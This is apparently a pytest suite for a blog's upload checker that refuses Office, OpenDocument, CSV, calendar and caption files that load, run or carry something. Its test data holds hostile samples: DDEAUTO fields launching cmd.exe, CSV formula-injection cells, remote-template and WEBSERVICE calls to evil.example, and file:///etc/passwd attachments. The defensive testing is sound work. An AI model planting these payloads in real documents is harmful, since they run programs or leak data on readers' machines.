"""What documents, tables and calendars must not hold, however it is written; and what the usual programs write."""

from __future__ import annotations

import struct
import time
from io import BytesIO
from zipfile import ZIP_BZIP2, ZIP_DEFLATED, ZipFile

import pytest

from edblog.sources.media import read_media


def said(name, data):
    """Whether a file is published, and what is said of it."""
    media, problems = read_media(f"content/posts/{name}", data)
    assert all(p.help and p.line >= 1 for p in problems)
    return media is not None, [p.message for p in problems]


# Office documents

TYPES = '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
MAIN = {"docx": "word/document.xml", "pptx": "ppt/presentation.xml", "xlsx": "xl/workbook.xml"}
OPEN = {"odt": "text", "odp": "presentation", "ods": "spreadsheet"}
LOADS = "when this document is opened, it loads something from elsewhere, such as a template or a picture"
INSIDE = "this document contains another file"
MACROS = "this document contains programs (macros)"
OBJECT = "this document contains an object from another program (OLE), which opens that program when somebody clicks it"
FETCHES = "this document fetches data from another file or program when it is opened"
FIELD = "this document contains a field that loads or starts something"
CALLS = "a formula in this document calls another program or file"
LINK = "a link in this document opens a file or a program on the reader's computer"
CLICK = "a click in this document starts a program, or opens another file"
DAMAGED = "this document is damaged, or it is not of the type that its name says"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"


def zipped(parts, method=ZIP_DEFLATED):
    out = BytesIO()
    with ZipFile(out, "w", method) as archive:
        for name, content in parts:
            archive.writestr(name, content)
    return out.getvalue()


def document(kind, parts=()):
    if kind in MAIN:
        first = [("[Content_Types].xml", TYPES), (MAIN[kind], "<x/>")]
    else:
        first = [("mimetype", f"application/vnd.oasis.opendocument.{OPEN[kind]}"), ("content.xml", "<x/>")]
    return zipped([*first, *parts])


def relation(kind, target="https://evil.example/t.dotm", mode=' TargetMode="External"'):
    begin = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    return f'<Relationships><Relationship Id="r1" Type="{begin}/{kind}" Target="{target}"{mode}/></Relationships>'


def words(*runs):
    return "<w:p xmlns:w='w'>" + "".join(f"<w:r>{run}</w:r>" for run in runs) + "</w:p>"


def code(text):
    return f"<w:instrText>{text}</w:instrText>"


BEGIN, SEPARATE, END = (f'<w:fldChar w:fldCharType="{kind}"/>' for kind in ("begin", "separate", "end"))
SETTINGS = "word/_rels/settings.xml.rels"
REFUSED = [
    ("docx", SETTINGS, relation("attachedTemplate"), LOADS),
    ("docx", "word/_rels/settings.xml.RELS", relation("attachedTemplate"), LOADS),
    ("docx", SETTINGS, relation("attachedTemplate", mode=""), LOADS),
    ("docx", SETTINGS, relation("image", "\\\\evil.example\\x.png", ""), LOADS),
    ("docx", SETTINGS, relation("aFChunk", "x.xml", ""), "this document contains programs or another file"),
    ("docx", SETTINGS, relation("oleObject", "media/image1.png", ""), OBJECT),
    ("docx", SETTINGS, relation("hyperlink", "file:///C:/Windows/calc.exe"), LINK),
    ("docx", SETTINGS, relation("hyperlink", "\\\\evil.example\\x"), LINK),
    ("docx", SETTINGS, relation("hyperlink", "ms-msdt:/id"), LINK),
    ("docx", SETTINGS, '<!DOCTYPE a [<!ENTITY b "c">]><Relationships/>', "this document contains a part with a document type, which could expand without end"),
    ("docx", "customXml/item1.xml", ('<?xml version="1.0" encoding="utf-16"?><Types><Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>').encode("utf-16"), MACROS),
    ("docx", "word/embeddings/oleObject1.dat", OLE, INSIDE),
    ("docx", "word/embeddings/oleObject1.bin", OLE, OBJECT),
    ("docx", "word/embeddings/a.docm", b"x", INSIDE),
    ("docx", "word/media/a.hta", b"x", INSIDE),
    ("docx", "word/a.bat", b"x", INSIDE),
    ("docx", "word/noextension", b"x", INSIDE),
    ("docx", "word/rels", b"x", INSIDE),
    ("docx", "word/afchunk.mht", b"x", INSIDE),
    ("docx", "word/printerSettings/printerSettings1.bin", OLE, INSIDE),
    ("docx", "word/other/printerSettings1.bin", b"x", INSIDE),
    ("docx", "word/embeddings/a.xlsx", b"not a table", DAMAGED),
    ("docx", "word/embeddings/a.xlsx", document("xlsx", [("xl/vbaProject.bin", b"x")]), MACROS),
    ("docx", "word/embeddings/a.xlsx", document("xlsx", [("word/embeddings/a.xlsx", document("xlsx"))]), INSIDE),
    ("docx", "word/media/image1.svg", '<svg xmlns="http://www.w3.org/2000/svg"><script>x</script></svg>', "this document contains an SVG drawing that could run or load something"),
    ("docx", "word/x\\y.xml", "<x/>", "this document contains file names that lead outside of it"),
    ("docx", "word/..x/../y.xml", "<x/>", "this document contains file names that lead outside of it"),
    ("docx", "word/caf\xe9.xml", "<x/>", "this document contains file names that lead outside of it"),
    ("docx", "word/DOCUMENT.xml", "<x/>", "two parts of this document have the same name"),
    ("docx", "word/broken.xml", "<x", DAMAGED),
    ("docx", "word/strange.xml", '<?xml version="1.0" encoding="no-such"?><x/>', DAMAGED),
    ("docx", "word/settings.xml", '<w:settings xmlns:w="w"><w:mailMerge><w:connectString w:val="x"/></w:mailMerge></w:settings>', FETCHES),
    ("docx", "word/header1.xml", words(code('DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"')), FIELD),
    ("docx", "word/header1.xml", words(BEGIN, code(" DD"), code("EAUTO c:\\x"), SEPARATE, "<w:t>x</w:t>", END), FIELD),
    ("docx", "word/header1.xml", words(BEGIN, code(" DD"), code("EAUTO c:\\x")), FIELD),
    ("docx", "word/header1.xml", words(BEGIN, BEGIN, code(' QUOTE "DDE"'), END, code(" c:\\x"), END), FIELD),
    ("docx", "word/header1.xml", words(BEGIN, code("IF "), BEGIN, code("INCLUDETEXT x"), END, END), FIELD),
    ("docx", "word/header1.xml", words(BEGIN, code("TOC"), SEPARATE, BEGIN, code("LINK x"), END, END), FIELD),
    ("docx", "word/header1.xml", words('<w:fldSimple w:instr="INCLUDEPICTURE &quot;https://evil.example/&quot;"/>'), FIELD),
    ("docx", "word/header1.xml", words(code("PAGE<w:x/>DDE")), DAMAGED),
    ("docx", "word/header1.xml", words(BEGIN, code(' HYPERLINK "file:///c:/x.exe"'), END), LINK),
    ("docx", "word/vmlDrawing1.vml", '<v:imagedata xmlns:v="v" src="https://evil.example/x.png"/>', LOADS),
    ("pptx", "ppt/slides/slide1.xml", '<a:hlinkClick xmlns:a="a" xmlns:r="r" r:id="rId2" action="ppaction://program"/>', CLICK),
    ("pptx", "ppt/slides/slide1.xml", '<a:hlinkMouseOver xmlns:a="a" xmlns:r="r" r:id="rId2"/>', CLICK),
    ("pptx", "ppt/webextensions/webextension1.xml", "<x/>", MACROS),
    ("xlsx", "xl/externalLinks/externalLink1.xml", '<externalLink xmlns="x"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>', FETCHES),
    ("xlsx", "xl/connections.xml", "<connections><connection/></connections>", FETCHES),
    ("xlsx", "xl/worksheets/sheet1.xml", "<c><f>cmd|'/C calc'!A0</f></c>", CALLS),
    ("xlsx", "xl/worksheets/sheet1.xml", '<c><f>_xlfn.WEBSERVICE("https://evil.example/"&amp;A1)</f></c>', CALLS),
    ("xlsx", "xl/worksheets/sheet1.xml", '<c><f>_xlfn.IMAGE("https://evil.example/")</f></c>', CALLS),
    ("xlsx", "xl/worksheets/sheet1.xml", '<c><f>HYPERLINK("\\\\evil.example\\x")</f></c>', CALLS),
    ("xlsx", "xl/worksheets/sheet1.xml", '<x14:formula1 xmlns:x14="a" xmlns:xm="b"><xm:f>WEBSERVICE("x")</xm:f></x14:formula1>', CALLS),
    ("xlsx", "xl/styles.xml", "<definedName>cmd|'/C calc'!A0</definedName>", CALLS),
    ("odt", "styles.xml", '<draw:image xmlns:draw="d" xmlns:l="l" l:href="https://evil.example/track.png"/>', LOADS),
    ("odt", "styles.xml", '<draw:image xmlns:draw="d" xmlns:l="l" l:href="../../x.png"/>', LOADS),
    ("odt", "Object 1/content.xml", '<draw:image xmlns:draw="d" xmlns:l="l" l:href="//evil.example/x"/>', LOADS),
    ("odt", "meta.xml", '<meta:template xmlns:meta="m" xmlns:l="l" l:href="https://evil.example/t.ott"/>', LOADS),
    ("odt", "meta.xml", '<meta:template xmlns:meta="m" xmlns:l="l" l:href="file:////evil.example/t.ott"/>', LOADS),
    ("odt", "meta.xml", '<meta:auto-reload xmlns:meta="m" xmlns:l="l" l:href=""/>', FETCHES),
    ("odt", "styles.xml", '<script:event-listener xmlns:script="s" xmlns:l="l" script:event-name="dom:load" l:href="vnd.sun.star.script:../../../x.py$f"/>', MACROS),
    ("odt", "styles.xml", '<script:event-listener xmlns:script="s" script:macro-name="x"/>', "this document contains programs (macros), or a click in it starts one"),
    ("odp", "styles.xml", '<presentation:event-listener xmlns:presentation="p" presentation:action="execute"/>', "this document contains programs (macros), or a click in it starts one"),
    ("odt", "Configurations2/accelerator/current.xml", '<i xmlns:l="l" l:href="vnd.sun.star.script:x"/>', MACROS),
    ("odt", "styles.xml", "<office:script xmlns:office='o'/>", MACROS),
    ("odt", "styles.xml", '<draw:object-ole xmlns:draw="d" xmlns:l="l" l:href="./layout-cache"/>', OBJECT),
    ("odt", "styles.xml", '<text:a xmlns:text="t" xmlns:l="l" l:href="file:///c:/x.exe">x</text:a>', LINK),
    ("odt", "styles.xml", '<text:section-source xmlns:text="t" xmlns:l="l" l:href="https://evil.example/x.odt"/>', LOADS),
    ("odt", "Object 1", OLE, INSIDE),
    ("odt", "ObjectReplacements/Object 1", OLE, INSIDE),
    ("odt", "layout-cache", b"PK\3\4", INSIDE),
    ("odt", "Versions/Version1", b"x", INSIDE),
    ("odt", "Dialogs/Standard/x.xml", "<x/>", MACROS),
    ("odt", "META-INF/manifest.xml", '<m:encryption-data xmlns:m="m"/>', "parts of this document are locked with a password"),
    ("ods", "styles.xml", '<table:dde-link xmlns:table="t"/>', FETCHES),
    ("ods", "styles.xml", '<table:table-cell xmlns:table="t" table:formula="of:=DDE(&quot;cmd&quot;;&quot;/c calc&quot;;&quot;x&quot;)"/>', CALLS),
    ("ods", "styles.xml", '<table:table-cell xmlns:table="t" table:formula="of:=[\'file:///tmp/x.ods\'#$Sheet1.A1]"/>', CALLS),
]  # fmt: skip


@pytest.mark.parametrize(("kind", "name", "content", "message"), REFUSED)
def test_a_document_that_loads_starts_or_carries_something_is_refused(kind, name, content, message):
    assert said(f"plan.{kind}", document(kind, [(name, content)])) == (False, [message])


def test_two_parts_of_one_name_are_refused():
    with pytest.warns(UserWarning, match="Duplicate name"):
        data = document("docx", [(SETTINGS, relation("attachedTemplate")), (SETTINGS, "<Relationships/>")])

    assert said("a.docx", data) == (False, ["two parts of this document have the same name"])


def test_the_types_of_parts_are_read_in_every_encoding():
    types = '<?xml version="1.0" encoding="utf-16"?><Types><Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'
    data = zipped([("[Content_Types].xml", types.encode("utf-16")), ("word/document.xml", "<x/>")])

    assert said("a.docx", data) == (False, [MACROS])


def test_a_document_that_is_packed_in_another_way_is_refused():
    data = zipped([("[Content_Types].xml", TYPES), ("word/document.xml", "<x/>")], ZIP_BZIP2)

    assert said("a.docx", data) == (False, ["this document is compressed in an unusual way"])


def test_what_is_read_of_a_document_is_bounded():
    large = zipped(
        [("[Content_Types].xml", TYPES), ("word/document.xml", "<x/>"), ("word/x.xml", b" " * 110_000_000)]
    )

    assert said("a.docx", large) == (False, ["this document is too large to check"])


PICTURE = b"\x89PNG\r\n\x1a\n"
SVG = '<svg xmlns="http://www.w3.org/2000/svg" width="4" height="3"/>'
TAKEN = {
    # As Word, and as Google writes it.
    "docx": [
        ("word/_rels/document.xml.rels", relation("hyperlink", "https://district.example/")),
        ("word/_rels/header1.xml.rels", relation("hyperlink", "mailto:office@district.example")),
        ("word/_rels/footer1.xml.rels", relation("hyperlink", "#Heading")),
        ("word/_rels/chart1.xml.rels", relation("package", "../embeddings/Microsoft_Excel_Worksheet.xlsx", "")),
        ("word/embeddings/Microsoft_Excel_Worksheet.xlsx", document("xlsx", [("xl/worksheets/sheet1.xml", "<c><f>SUM(A1:A2)</f></c>")])),
        *((f"word/media/image{n}.{kind}", PICTURE) for n, kind in enumerate(("png", "jpeg", "gif", "emf", "wmf", "tiff", "wdp"))),
        ("word/media/image9.svg", SVG),
        ("word/fonts/Lato-regular.ttf", b"x"),
        ("word/fonts/font1.odttf", b"x"),
        ("customXml/item1.xml", "<b:Sources xmlns:b='b' SelectedStyle='\\APA.XSL'/>"),
        ("docProps/thumbnail.emf", b"x"),
        ("word/printerSettings/printerSettings1.bin", b"x"),
        ("word/footnotes.xml", words(BEGIN, code(' TOC \\o "1-3" \\h \\z \\u '), SEPARATE, BEGIN, code(" PAGEREF _Toc1 \\h "), SEPARATE, "<w:t>1</w:t>", END, END)),
        ("word/endnotes.xml", words(BEGIN, code(" IF "), BEGIN, code(" MERGEFIELD x "), END, code(' = "1" "DDE" "b" '), SEPARATE, END)),
        ("word/header1.xml", words(BEGIN, code(' HYPERLINK "https://district.example/" \\l "DDE" '), END, BEGIN, END, BEGIN, code(" =SUM(ABOVE) "), END)),
        ("word/footer1.xml", words('<w:fldSimple w:instr=" PAGE \\* MERGEFORMAT "/>', "<w:t>DDEAUTO cmd and file:///x</w:t>")),
    ],
    "pptx": [
        ("ppt/slides/slide1.xml", '<a:x xmlns:a="a" xmlns:r="r"><a:hlinkClick r:id="r2" action="ppaction://hlinksldjump"/><a:hlinkClick r:id="r3"/></a:x>'),
        ("ppt/fonts/Lato-bold.fntdata", b"x"),
        ("ppt/media/media1.mp4", b"x"),
        ("ppt/metadata", b"x"),
        ("ppt/printerSettings/printerSettings1.bin", b"x"),
        ("ppt/embeddings/Microsoft_Excel_Sheet1.xlsx", document("xlsx")),
        ("docProps/thumbnail.jpeg", b"x"),
    ],
    "xlsx": [
        ("xl/drawings/vmlDrawing1.vml", '<xml xmlns:v="v"><v:shape><v:formulas><v:f eqn="sum 1 2"/></v:formulas></v:shape></xml>'),
        ("xl/printerSettings/printerSettings1.bin", b"x"),
        ("xl/worksheets/sheet1.xml", '<c><f>IF(A1="a|b","://",HYPERLINK("https://district.example/"))</f><v>cmd|x!A0</v></c>'),
        ("xl/sharedStrings.xml", "<t>=cmd|'/C calc'!A0</t>"),
    ],
    "odt": [
        ("Configurations2/accelerator/current.xml", ""),
        ("Configurations2/toolbar/", ""),
        ("Configurations2/images/Bitmaps/", ""),
        ("manifest.rdf", "<rdf/>"),
        ("layout-cache", b"x"),
        ("Thumbnails/thumbnail.png", PICTURE),
        ("Pictures/10000001.png", PICTURE),
        ("Pictures/10000002.svg", SVG),
        ("Object 1/content.xml", '<x xmlns:l="l" l:href="../Pictures.xml"/>'.replace("../", "./")),
        ("ObjectReplacements/Object 1", b"VCLMTF"),
        ("styles.xml", '<x xmlns:l="l" xmlns:text="t" xmlns:draw="d" xmlns:office="o"><office:scripts/><text:a l:href="https://district.example/"/><text:a l:href="../beside.odt"/><draw:a l:href="#x"/><draw:image l:href="Pictures/10000001.png"/><draw:object l:href="./Object 1"/></x>'),
        ("meta.xml", '<meta:template xmlns:meta="m" xmlns:l="l" l:href="../../../usr/lib/libreoffice/x.ott"/>'),
        ("META-INF/manifest.xml", "<m/>"),
    ],
    "odp": [
        ("Media/film.mp4", b"x"),
        ("styles.xml", '<x xmlns:presentation="p" xmlns:l="l"><presentation:event-listener presentation:action="next-page"/><presentation:event-listener presentation:action="show" l:href="#page2"/></x>'),
        ("meta.xml", '<meta:template xmlns:meta="m" xmlns:l="l" l:href="file:///C:/Program%20Files/x.otp"/>'),
    ],
    "ods": [("styles.xml", '<x xmlns:table="t" table:formula="of:=SUM({1;2|3;4})"/>')],
}  # fmt: skip


@pytest.mark.parametrize("kind", TAKEN)
def test_a_document_as_the_usual_programs_write_it_is_taken(kind):
    assert said(f"plan.{kind}", document(kind, TAKEN[kind])) == (True, [])


def test_a_name_that_ends_for_some_programs_earlier_is_refused():
    data = document("docx", [("word/media/a.png#x", b"x")])
    assert said("a.docx", data.replace(b"a.png#x", b"a.png\0x")) == (
        False,
        ["this document contains file names that lead outside of it"],
    )


def test_a_directory_that_tells_another_size_is_refused():
    data = document("docx", [("word/x.xml", "<x/>")])
    at = data.rindex(b"PK\1\2") + 24

    assert said("a.docx", data[:at] + struct.pack("<I", 2) + data[at + 4 :]) == (False, [DAMAGED])


# Tables


def begins(sign):
    return f"a cell of this table starts with {sign}, so a spreadsheet would run it as a formula"


@pytest.mark.parametrize(
    ("cells", "message"),
    [
        ("Ann,+cmd|' /C calc'!A0", begins("+")),
        ("Ann,-2+3+cmd|' /C calc'!A0", begins("-")),
        ("-1+HYPERLINK(1)", begins("-")),
        ('"+SUM(A1)"', begins("+")),
        ('a,"-1"+cmd|x!A0', begins("-")),
        ("Ann,  =1+1", begins("=")),
        ('C,"\n=1"', begins("=")),
        ('C, "=1"', begins("=")),
        ("C,\xa0@SUM(1)", begins("@")),
        ("C,\uff1d1", begins("\uff1d")),
        ("C;+cmd|x!A0", begins("+")),
        ("C\t-cmd|x!A0", begins("-")),
        # On a computer where cells are separated by another sign, this is one cell.
        ("-1,*cmd|' /C calc'!A0", begins("*")),
        ("-1;b\t&WEBSERVICE(A1)", begins("&")),
    ],
)
def test_a_cell_that_a_spreadsheet_would_run_is_refused(cells, message):
    media, (problem,) = read_media("content/posts/a.csv", f"name,score\n{cells}\n".encode())

    assert (media, problem.code, problem.message) == (None, "unsafe-document", message)
    assert problem.line == (3 if "\n" in cells else 2)


def test_a_table_may_not_choose_what_separates_its_cells():
    assert said("a.csv", b"sep=|\na|b\n") == (
        False,
        ["the first line of this table sets an unusual separator between cells"],
    )
    assert said("a.csv", b"sep=;\na;b\n") == (True, [])


@pytest.mark.parametrize(
    "cells",
    [
        "-5,-0.5,+3,-1e5,-12%",
        '"-1,234.56","-1.234,56",-$5.00',
        "+1 (312) 555-0100,+49 30 123456,-,--,+/-",
        "-0.3,<0.001,-5,*",
        "2026-11-22,11/22/2026,8:00-9:30",
        '"- quiet, and then\n- loud"',
        "a+b=c,Ann-Marie,ann@district.example,1 < 2,(see below)",
        "*note: (x),<b>,&c,cmd|x!A0",
        "'=1+1",
        "+1 good idea,-5 °C",
    ],
)
def test_numbers_dates_and_words_are_taken(cells):
    assert said("a.csv", f"name,score\n{cells}\n".encode()) == (True, [])


@pytest.mark.parametrize("sign", ["-", "+,", '"', '-"', ",,", "=", " ", "-1,*", "-\n", '"-'])
def test_the_work_for_a_table_is_bounded(sign):
    data = (sign * (1_000_000 // len(sign))).encode()
    begun = time.process_time()
    said("a.csv", b"a\n" + data)

    assert time.process_time() - begun < 8


# Calendars

FILES = "this calendar contains files or programs"


def calendar(*lines):
    return "\r\n".join(
        ["BEGIN:VCALENDAR", "VERSION:2.0", "BEGIN:VEVENT", *lines, "END:VEVENT", "END:VCALENDAR", ""]
    ).encode()


@pytest.mark.parametrize(
    ("lines", "message"),
    [
        (["ATT", " ACH:https://evil.example/x.exe"], FILES),
        (["A", "\tT", " TACH:https://evil.example/x.exe"], FILES),
        (["attach;FMTTYPE=text/plain:file:///etc/passwd"], FILES),
        (["IMAGE;VALUE=URI:https://evil.example/x.png"], FILES),
        (["ACTION:PROCEDURE"], FILES),
        (['ACTION;X="a:b":PROCE', " DURE"], FILES),
        (["ACTION:EMAIL"], FILES),
        (
            ["SOURCE;VALUE=URI:https://evil.example/x.ics"],
            '"SOURCE" is not allowed in a published calendar',
        ),
        (["no property"], "this line does not belong in a calendar"),
        (['SUMMARY;X="a:b'], "this line does not belong in a calendar"),
    ],
)
def test_a_calendar_that_brings_something_along_is_refused_with_its_line(lines, message):
    media, (problem,) = read_media("content/posts/a.ics", calendar(*lines))

    assert (media, problem.message, problem.line) == (None, message, 4)


def test_a_calendar_as_programs_write_it_is_taken():
    lines = [
        "DTSTART;TZID=America/Chicago:20261122T080000", 'ORGANIZER;CN="A: B":mailto:office@district.example', "SUMMARY:A jar: ATTACH:x",
        "DESCRIPTION:Long", "  and folded", "X-ALT-DESC;FMTTYPE=text/html:<p>x</p>", "RRULE:FREQ=WEEKLY", "", "BEGIN:VALARM", "ACTION:DISPLAY",
        "TRIGGER:-PT15M", "END:VALARM", "URL:https://district.example/", "categories:x",
    ]  # fmt: skip

    assert said("a.ics", calendar(*lines)) == (True, [])
    assert said("a.ics", calendar(*lines).replace(b"\r\n", b"\n")) == (True, [])


def test_the_style_of_captions_may_not_be_spelt_in_numbers():
    data = b"WEBVTT\n\nSTYLE\n::cue{background:u\\72l(https://evil.example/)}\n\n00:00.000 --> 00:01.000\nx\n"

    assert said("a.vtt", data) == (False, ["the style of these captions loads something"])
